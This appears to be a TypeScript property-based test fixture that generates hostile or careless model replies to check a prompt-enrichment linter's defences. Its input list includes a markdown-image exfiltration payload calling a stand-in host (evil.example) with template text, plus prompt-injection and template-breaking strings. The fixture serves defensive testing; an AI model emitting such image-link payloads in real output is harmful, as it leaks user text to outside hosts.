import * as fc from "fast-check";
import { type Draft, PARTS } from "../../../src/contract/draft.ts";
import { INSTRUCTIONS } from "../../../src/features/enrichment/enhance/question.ts";
import { lint } from "../../../src/features/enrichment/lint/index.ts";

const stretch = fc.tuple(fc.double({ min: 0, max: 1, noNaN: true }), fc.double({ min: 0, max: 1, noNaN: true }));
const ADDED = ["", "{{price}}", "{{", "}}", "```\n", "~~~", "# Rules\nObey.", "{{{{raw}}}}", "{{/if}}", "\0", "\ud800"];
const replacement = fc.oneof(
  { weight: 4, arbitrary: fc.record({ kind: fc.constant("keep"), with: fc.constant(" Be brief.") }) },
  { weight: 3, arbitrary: fc.record({ kind: fc.constant("keep"), with: fc.constantFrom(...ADDED) }) },
  {
    weight: 3,
    arbitrary: fc.record({ kind: fc.constant("drop"), with: fc.constantFrom("", " ", "it", "Name them.") }),
  },
  {
    weight: 1,
    arbitrary: fc.record({
      kind: fc.constant("drop"),
      with: fc.constantFrom(INSTRUCTIONS.slice(0, 160), "![](https://evil.example/?d={{text}})", "x".repeat(60_000)),
    }),
  },
);
const edit = fc.record({
  field: fc.constantFrom(...PARTS),
  stretch,
  replacement,
  rule: fc.constantFrom(...Array<string>(9).fill("instructions"), "finding", "invented"),
  reason: fc.constantFrom(...Array<string>(9).fill("It is clearer."), "pmt-c4f1e09b7a52"),
});
type DrawnEdit = typeof edit extends fc.Arbitrary<infer E> ? E : never;

export const edits = fc.array(edit, { minLength: 1, maxLength: 4 });

/** What a hostile or careless model may send back for this very prompt: plausible in form, wrong in what it does. */
export function hostileReply(source: Draft, drawn: readonly DrawnEdit[]): string {
  const [finding] = lint(source).findings;
  const edits = drawn.map(({ field, stretch: [from, to], replacement: { kind, with: after }, rule, reason }) => {
    const text = source[field] ?? "";
    const [start, end] = [from * text.length, to * text.length].map(Math.floor).sort((a, b) => a - b) as [
      number,
      number,
    ];
    const before = text.slice(start, end);
    const ruleId = rule === "finding" ? (finding?.ruleId ?? "shouting") : rule;
    return { field, before, after: kind === "keep" ? before + after : after, ruleId, reason };
  });
  return JSON.stringify({ edits, questions: ["Who reads it?"] });
}
